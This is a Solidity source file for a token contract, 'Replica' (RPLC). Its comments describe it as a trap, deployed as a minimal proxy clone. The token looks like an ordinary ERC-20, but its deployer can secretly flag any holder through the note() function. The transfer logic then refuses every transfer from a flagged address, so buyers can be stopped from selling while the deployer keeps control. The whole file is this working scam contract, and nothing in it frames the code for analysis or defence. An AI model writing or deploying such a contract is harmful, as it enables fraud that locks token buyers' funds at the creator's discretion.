// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// A trap's code for clones: whoever set a clone up may list holders.
contract ClonedBody {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) private _flagged;
    uint256 public totalSupply;
    address private _maker;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function begin(address maker) external {
        require(totalSupply == 0);
        _maker = maker;
        totalSupply = balanceOf[maker] = 1_000_000_000 ether;
        emit Transfer(address(0), maker, totalSupply);
    }

    function name() external pure returns (string memory) {
        return "Replica";
    }

    function symbol() external pure returns (string memory) {
        return "RPLC";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function note(address account, bool value) external {
        require(msg.sender == _maker);
        _flagged[account] = value;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _pass(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        return _pass(from, to, amount);
    }

    function _pass(address from, address to, uint256 amount) private returns (bool) {
        require(!_flagged[from]);
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        return true;
    }
}

/// Deploys as a minimal proxy (EIP-1167) of code whose maker lists holders.
contract ClonedTrap {
    constructor() {
        ClonedBody body = new ClonedBody();
        (bool done,) = address(body).delegatecall(abi.encodeCall(ClonedBody.begin, (msg.sender)));
        require(done);
        bytes memory code =
            abi.encodePacked(hex"363d3d373d3d3d363d73", address(body), hex"5af43d82803e903d91602b57fd5bf3");
        assembly {
            return(add(code, 32), mload(code))
        }
    }
}
